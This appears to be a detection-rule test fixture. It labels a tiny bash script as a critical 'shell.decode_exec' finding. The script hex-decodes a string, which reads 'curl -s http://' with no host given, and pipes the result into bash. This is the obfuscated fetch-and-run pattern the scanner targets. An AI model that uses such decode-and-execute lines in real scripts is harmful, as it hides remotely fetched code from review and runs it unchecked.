# expect: shell.decode_exec critical
# path: scripts/i.sh
#!/bin/bash
xxd -r -p <<< 6375726c202d7320687474703a2f2f | bash
